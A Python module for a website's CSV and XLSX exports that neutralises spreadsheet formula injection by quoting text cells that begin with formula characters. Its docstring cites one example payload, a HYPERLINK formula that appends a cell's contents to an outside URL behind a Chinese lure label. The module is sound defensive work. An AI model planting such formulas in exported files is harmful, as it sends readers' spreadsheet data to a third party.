"""Cells that a spreadsheet can never run: the rule every CSV and XLSX the site offers follows.

Excel and WPS read a cell that starts with =, +, -, @, tab or carriage return as a formula,
even in a CSV: `=HYPERLINK("http://…"&A1,"点击查看原文")` in a department's name would send
whatever the reader's sheet holds to another host (OWASP, "CSV Injection"). Such text is
written as text: in XLSX as a string cell marked quote-prefixed (the text shows unchanged),
in CSV behind a leading apostrophe, the mark Excel itself uses for "this is text". Numbers
stay numbers, and text that is only a number (-5, +3.5%) is left alone: it cannot run.
"""

from __future__ import annotations

import csv
import io
import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?$")


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START) and not PLAIN_NUMBER.match(value)


def csv_cell(value: object) -> object:
    """A value as it may go into a CSV file."""
    return "'" + value if is_formula_like(value) else value


def csv_bytes(rows) -> bytes:
    """Rows as CSV for Excel: UTF-8 with a byte-order mark (so the Chinese reads right), CRLF,
    every text cell made safe, empty for None."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow(["" if v is None else csv_cell(v) for v in row])
    return out.getvalue().encode("utf-8-sig")


def text_cells_only(workbook) -> None:
    """Every cell of an openpyxl workbook that would be stored as a formula is stored as the
    text it is instead, quote-prefixed so that editing it in Excel does not make it one."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or is_formula_like(cell.value):
                    cell.data_type = "s"
                    cell.quotePrefix = True
